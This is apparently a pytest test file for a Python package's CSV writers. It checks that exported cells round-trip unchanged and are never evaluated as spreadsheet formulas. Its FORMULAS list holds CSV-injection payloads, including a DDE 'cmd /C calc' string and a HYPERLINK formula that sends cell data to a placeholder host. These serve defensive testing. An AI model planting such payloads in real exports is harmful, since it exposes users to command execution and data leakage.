"""CSV files we write: nothing in them is computed by a spreadsheet program, and everything comes back as it was."""

import csv
import io
import random
from pathlib import Path

import pytest

import triptych
from tests.data.source_copies import WAV, put
from triptych.audit.findings import Suspect
from triptych.audit.listing import write_suspects
from triptych.csv_files import csv_text, read_rows
from triptych.data import manifest
from triptych.data.noise import Swap, read_swaps, write_swaps
from triptych.data.sources.draft import Draft, Item
from triptych.data.sources.output import Origin, write
from triptych.search.items import Skipped
from triptych.search.not_indexed import write_list
from triptych.studies.book import Finding, write_page

LINK = '=HYPERLINK("http://example.org/?"&A1,"open")'
FORMULAS = [
    LINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1",
    "\n=1",
    " =1+1",
    "\uff1d1+1",
    "'=1",
    "''-x",
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def cells_of(path):
    with path.open(newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file) for cell in row]


def is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def computed(path):
    """The cells that a spreadsheet program would compute."""
    return [cell for cell in cells_of(path) if cell.lstrip(" ").startswith(STARTS) and not is_number(cell)]


@pytest.mark.parametrize("value", [*FORMULAS, "plain", "'quoted'", "a=b", "", "'", "-0.5", "+1e-7", "-inf", "[=x]"])
def test_every_text_comes_back_and_none_is_a_formula(value):
    text = csv_text(["a", "b"], [{"a": value, "b": "x"}, {"b": value}])
    assert read_rows(io.StringIO(text, newline="")) == [{"a": value, "b": "x"}, {"a": "", "b": value}]
    starts = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [cell for cell in starts if cell.lstrip(" ").startswith(STARTS) and not is_number(cell)]


def test_random_texts_come_back():
    rng = random.Random(0)
    values = ["".join(rng.choices("'=+-@\t\r\n ,\"1a", k=rng.randint(0, 6))) for _ in range(2000)]
    text = csv_text(["a", "b"], [{"a": value, "b": "x"} for value in values])
    assert [row["a"] for row in read_rows(io.StringIO(text, newline=""))] == values


def test_numbers_stay_numbers():
    assert (
        csv_text(["a", "b", "c", "d"], [{"a": -1, "b": -0.5, "c": "-1.5e-07", "d": None}])
        == "a,b,c,d\n-1,-0.5,-1.5e-07,\n"
    )


def test_a_manifest_with_formulas_reads_back_and_holds_none(tmp_path):
    items = [
        Item(
            f"{formula.strip()} {number}",
            files={"audio": put(tmp_path / f"=x{number}.wav", WAV)},
            texts=(formula.strip(),),
            group=formula.strip(),
            split="-train",
            label="@label",
        )
        for number, formula in enumerate(FORMULAS)
    ]
    made = write(Draft(items), tmp_path / "m.csv", Origin("test", {}, "mine"))
    assert computed(made.path) == []
    rows = manifest.read(made.path).rows
    assert [(r.id, r.audio, r.texts, r.group, r.split, r.label) for r in rows] == [
        (item.id, item.files["audio"], item.texts, item.group, item.split, item.label) for item in items
    ]


def test_other_tables_hold_no_formulas(tmp_path):
    swaps = [Swap(LINK, "text", "@b")]
    write_swaps(tmp_path / "swaps.csv", swaps)
    assert read_swaps(tmp_path / "swaps.csv") == swaps
    put(tmp_path / "a.wav", WAV)
    put(tmp_path / "m.jsonl", '{"id": "=1", "audio": "a.wav", "text": "@x"}\n')
    rows = manifest.read(tmp_path / "m.jsonl").rows
    suspect = Suspect(0, "wrong", ("audio", "text"), "text", None, 0.9, 0.1, -0.2, 0, None, 0.3)
    write_suspects(tmp_path / "suspects.csv", [suspect], rows)
    write_page(tmp_path, "study", "why?", "so", "x", Finding({"t": [{"a": LINK, "b": -1.5}]}, [], lambda figure: None))
    write_list(tmp_path / "not-indexed.tsv", {}, [Skipped(Path(LINK), "@reason")])
    assert "\n'=HYPERLINK" in (tmp_path / "not-indexed.tsv").read_text()
    assert "\t'@reason" in (tmp_path / "not-indexed.tsv").read_text()
    for name in ("swaps.csv", "suspects.csv", "study.csv"):
        assert computed(tmp_path / name) == []


def test_one_module_writes_all_csv_files():
    package = Path(triptych.__file__).parent
    writers = [
        path.name
        for path in package.rglob("*.py")
        if "csv.DictWriter" in (text := path.read_text()) or "csv.writer" in text
    ]
    assert writers == ["csv_files.py"]
